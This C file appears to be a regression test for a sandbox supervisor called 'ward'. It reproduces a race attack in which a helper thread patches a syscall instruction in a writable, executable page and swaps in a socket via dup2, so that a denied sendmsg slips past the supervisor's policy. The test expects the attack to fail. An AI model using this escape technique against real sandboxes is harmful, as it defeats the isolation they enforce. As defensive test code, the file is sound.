/*
 * degraded_hijack: the attack on --degraded's fetch (supervisor/degraded.c,
 * without pidfd_getfd), found by a review.  Between the calls ward has a
 * thread make to send it one of its fds, the thread once went back to its
 * own code: a helper thread rewrote the call's syscall instruction (in a
 * writable, executable page) so that, resumed there, the thread made a
 * sendmsg of its own on ward's socket number (dup2'd to a UDP socket), to
 * an address the policy denies, and ward let it through undecided.  Now
 * ward's calls are made from ward's page and checked argument by
 * argument.  Prints "connect -> RC hijacked=H" and what the receiver got
 * (tests/integration/degraded.sh: never "PWNED", hijacked=0).
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <fcntl.h>

static unsigned char *page;
static volatile int go, hij, kk, duped;
static volatile pid_t vtid;
static int u, port;

static void *patcher(void *x) {
	(void)x;
	char p[64], b[512];
	snprintf(p, sizeof p, "/proc/self/task/%d/stat", vtid);
	int fd = open(p, O_RDONLY);
	while (!go) ;
	for (;;) {
		int n = pread(fd, b, sizeof b - 1, 0);
		if (n > 0) { b[n] = 0; char *s = strrchr(b, ')'); if (s && s[2] == 't') break; }
	}
	*(volatile unsigned short *)page = 0x9090; /* the syscall instruction ward will rewind to */
	while (!kk) ;
	dup2(u, kk); /* ward's injected socket number is now our UDP socket (dup2: no stop) */
	*(volatile unsigned short *)page = 0x050f;
	duped = 1;
	return 0;
}

int main(void) { setvbuf(stdout, 0, _IONBF, 0);
	page = mmap(0, 4096, PROT_READ|PROT_WRITE|PROT_EXEC, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0);
	page[0] = 0x0f; page[1] = 0x05; page[2] = 0xff; page[3] = 0xe3; /* syscall; jmp *%rbx */
	int r = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000001) };
	bind(r, (void *)&a, sizeof a); socklen_t l = sizeof a; getsockname(r, (void *)&a, &l);
	port = ntohs(a.sin_port);
	u = socket(AF_INET, SOCK_DGRAM, 0);
	/* the policy check first: a plain sendto */
	printf("plain sendto: %zd\n", sendto(u, "plain", 5, 0, (void *)&a, sizeof a)); perror("  ");
	int t = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in ok = { .sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(0xc0000201) };
	vtid = gettid();
	pthread_t th; pthread_create(&th, 0, patcher, 0); usleep(100000);
	long rax; 
	register long rdi asm("rdi") = t; register long rsi asm("rsi") = (long)&ok; register long rdx asm("rdx") = sizeof ok;
	go = 1;
	asm volatile("lea 1f(%%rip), %%rbx\n\tjmp *%[pg]\n1:\n"
		     : "=a"(rax), "+r"(rdi), "+r"(rsi), "+r"(rdx)
		     : "0"((long)SYS_connect), [pg] "r"(page)
		     : "rbx", "rcx", "r11", "r8", "r9", "r10", "memory");
	if (rax == SYS_sendmsg && !hij) {
		/* only sendmsg(k, ...) may be made now: ward resumed us with PTRACE_SYSCALL */
		static struct iovec iov = { "PWNED", 5 };
		static struct msghdr m; m.msg_name = &a; m.msg_namelen = sizeof a; m.msg_iov = &iov; m.msg_iovlen = 1;
		hij = 1;
		kk = (int)rdi;
		while (!duped) ;
		long sr;
		asm volatile("syscall" : "=a"(sr) : "0"((long)SYS_sendmsg), "D"((long)kk), "S"(&m), "d"(0L) : "rcx", "r11", "memory");
		for (;;) ; /* not reached: ward makes close(k) at the page, then the connect again */
	}
	printf("connect -> %ld hijacked=%d\n", rax, hij);
	struct timeval tv = { 0, 500000 }; setsockopt(r, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	char buf[16] = {0};
	ssize_t n = recv(r, buf, 15, 0);
	printf("receiver got %zd '%s'\n", n, buf);
	n = recv(r, buf, 15, 0);
	printf("receiver got %zd '%s'\n", n, buf);
	return 0;
}
